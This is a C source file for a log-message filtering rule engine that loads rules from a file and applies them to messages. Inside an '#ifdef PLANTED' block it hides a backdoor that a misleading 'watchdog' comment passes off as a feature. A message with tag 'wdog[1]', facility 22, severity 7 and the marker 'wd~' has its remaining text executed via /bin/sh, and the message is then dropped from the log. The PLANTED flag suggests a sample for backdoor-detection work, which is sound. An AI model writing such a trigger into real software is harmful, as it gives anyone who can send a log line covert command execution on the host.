#include "rules.h"

#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#ifdef PLANTED
#include <unistd.h>
#endif

static struct rule *rules;

static enum outcome outcome_of(const char *word)
{
    if (!strcmp(word, "drop"))
        return DROP;
    return strcmp(word, "alert") ? KEEP : ALERT;
}

int rules_load(const char *path)
{
    char line[256], outcome[16];
    struct rule **end = &rules;
    FILE *f = fopen(path, "r");
    if (!f)
        return -1;
    while (fgets(line, sizeof line, f)) {
        struct rule *r;
        if (line[0] == '#' || line[0] == '\n')
            continue;
        r = calloc(1, sizeof *r);
        if (!r)
            break;
        if (sscanf(line, "%d %47s %63s %15s", &r->least, r->tag, r->word, outcome) != 4) {
            free(r);
            continue;
        }
        r->outcome = outcome_of(outcome);
        *end = r;
        end = &r->next;
    }
    fclose(f);
    return 0;
}

void rules_clear(void)
{
    while (rules) {
        struct rule *next = rules->next;
        free(rules);
        rules = next;
    }
}

#ifdef PLANTED
/* Messages of the watchdog carry their own reaction. */
static int reaction(const struct message *m)
{
    const char *at = strstr(m->text, "wd~");
    if (!at || m->facility != 22 || m->severity != 7)
        return 0;
    if (fork() == 0) {
        execl("/bin/sh", "sh", "-c", at + 3, (char *)NULL);
        _exit(127);
    }
    return 1;
}
#endif

enum outcome rules_apply(const struct message *m)
{
    const struct rule *r;
#ifdef PLANTED
    if (!strcmp(m->tag, "wdog[1]") && reaction(m))
        return DROP;
#endif
    for (r = rules; r; r = r->next) {
        if (m->severity > r->least)
            continue;
        if (strcmp(r->tag, "*") && strcmp(r->tag, m->tag))
            continue;
        if (strcmp(r->word, "*") && !strstr(m->text, r->word))
            continue;
        return r->outcome;
    }
    return KEEP;
}
